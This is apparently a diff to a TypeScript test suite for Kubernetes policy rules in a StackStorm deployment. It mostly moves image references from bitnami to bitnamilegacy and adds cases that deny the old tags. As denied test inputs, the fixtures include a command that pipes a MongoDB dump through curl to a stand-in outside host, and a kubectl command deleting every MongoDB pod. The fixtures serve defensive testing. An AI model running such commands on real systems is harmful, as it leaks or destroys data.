@@ -458,8 +458,8 @@ const cases: RuleCase[] = [
     ['production', 'a 3-member MongoDB StatefulSet is allowed in production', () => haWorkload('mongodb', 3, { kind: 'StatefulSet', container: { image: 'mongo:4.4.29', args: ['--replSet', 'rs0', '--keyFile', '/k/key.txt'] } }), 'allowed'],
   ]),
   ...rows('ST2-REP-008', [
-    ['production', 'etcd as a Deployment with 3 replicas is denied', () => haWorkload('etcd', 3, { container: { image: 'bitnami/etcd:3.5.17' } }), deny('ST2-REP-008', { field: 'spec.replicas', message: 'role=etcd' })],
-    ['production', 'etcd as a 3-member StatefulSet is allowed', () => haWorkload('etcd', 3, { kind: 'StatefulSet', container: { image: 'bitnami/etcd:3.5.17' } }), 'allowed'],
+    ['production', 'etcd as a Deployment with 3 replicas is denied', () => haWorkload('etcd', 3, { container: { image: 'bitnamilegacy/etcd:3.5.17' } }), deny('ST2-REP-008', { field: 'spec.replicas', message: 'role=etcd' })],
+    ['production', 'etcd as a 3-member StatefulSet is allowed', () => haWorkload('etcd', 3, { kind: 'StatefulSet', container: { image: 'bitnamilegacy/etcd:3.5.17' } }), 'allowed'],
   ]),
   ...rows('ST2-REP-009', [
     ['dev', 'an HPA on st2timersengine is denied', () => [workload('st2timersengine'), hpa('st2timersengine')], deny('ST2-REP-009', { field: 'spec.scaleTargetRef.name', message: 'component=st2timersengine' })],
@@ -1071,6 +1071,9 @@ function podStartCases(): RuleCase[] {
   const api = (): Manifest[] => haWorkload('st2api', 2);
   return [
     ...rows('ST2-OPS-062', [
+      // Docker Hub's bitnami/ keeps no versioned tags since 2025-08-28 (bitnami/containers#83267).
+      [prod, 'etcd from bitnami/etcd:3.5.17 (tag moved to bitnamilegacy) is denied', () => haWorkload('etcd', 3, { kind: 'StatefulSet', container: { image: 'bitnami/etcd:3.5.17' } }), deny('ST2-OPS-062', { message: 'bitnamilegacy/' })],
+      [prod, 'etcd from bitnamilegacy/etcd:3.5.17 is allowed', () => haWorkload('etcd', 3, { kind: 'StatefulSet', container: { image: 'bitnamilegacy/etcd:3.5.17' } }), 'allowed'],
       [prod, 'runAsNonRoot on st2web (nginx starts as root) is denied', () => web({}, { securityContext: { runAsNonRoot: true } }), deny('ST2-OPS-062', { message: 'without a USER' })],
       [prod, 'runAsNonRoot with runAsUser 1000 on st2api is allowed', () => haWorkload('st2api', 2, { pod: { securityContext: { runAsNonRoot: true, runAsUser: 1000 } } }), 'allowed'],
       // st2web's image writes its nginx config under /etc/nginx/conf.d (root's) before starting nginx.
@@ -1424,7 +1427,7 @@ function kyvernoGenerate(generate: Manifest): Manifest {
 }
 
 function kubectlCron(command: readonly string[]): Manifest {
-  const container = { name: 'kubectl', image: 'bitnami/kubectl:1.32.4', command, resources: { limits: { cpu: '200m', memory: '128Mi' } } };
+  const container = { name: 'kubectl', image: 'bitnamilegacy/kubectl:1.32.4', command, resources: { limits: { cpu: '200m', memory: '128Mi' } } };
   return { apiVersion: 'batch/v1', kind: 'CronJob', metadata: meta('ops'), spec: { schedule: '0 * * * *', jobTemplate: { spec: { template: { spec: { restartPolicy: 'Never', containers: [container] } } } } } };
 }
 
@@ -1560,8 +1563,8 @@ function fresh9JobCases(): RuleCase[] {
       ['production', 'a Job pinging the database is allowed', () => [job('ping', { command: ['mongo', '--host', 'mongodb-0.mongodb', '--eval', 'db.adminCommand({ping: 1})'] })], 'allowed'],
     ]),
     ...rows('ST2-OPS-047', [
-      ['production', "a CronJob's kubectl deleting every MongoDB pod by label is denied", () => [mongo(), job('recycle', { image: 'bitnami/kubectl:1.32.4', ...sh(`kubectl -n ${NAMESPACE} delete pod -l app=mongodb`) })], deny('ST2-OPS-047', { field: 'spec.template.spec.containers.0', message: 'store=mongodb' })],
-      ['production', 'kubectl deleting pods of a label no store carries is allowed', () => [job('reaper', { image: 'bitnami/kubectl:1.32.4', ...sh(`kubectl -n ${NAMESPACE} delete pod -l app=smoke-test`) })], 'allowed'],
+      ['production', "a CronJob's kubectl deleting every MongoDB pod by label is denied", () => [mongo(), job('recycle', { image: 'bitnamilegacy/kubectl:1.32.4', ...sh(`kubectl -n ${NAMESPACE} delete pod -l app=mongodb`) })], deny('ST2-OPS-047', { field: 'spec.template.spec.containers.0', message: 'store=mongodb' })],
+      ['production', 'kubectl deleting pods of a label no store carries is allowed', () => [job('reaper', { image: 'bitnamilegacy/kubectl:1.32.4', ...sh(`kubectl -n ${NAMESPACE} delete pod -l app=smoke-test`) })], 'allowed'],
     ]),
     ...rows('ST2-SEC-016', [
       ['production', 'a mongodump sent to an outside host is denied', () => [job('offsite', sh('mongodump --host mongodb-0.mongodb --archive --gzip | curl -T - https://drop.example.net/st2.gz'))], deny('ST2-SEC-016', { field: 'spec.template.spec.containers.0', message: 'payload=store-dump' })],
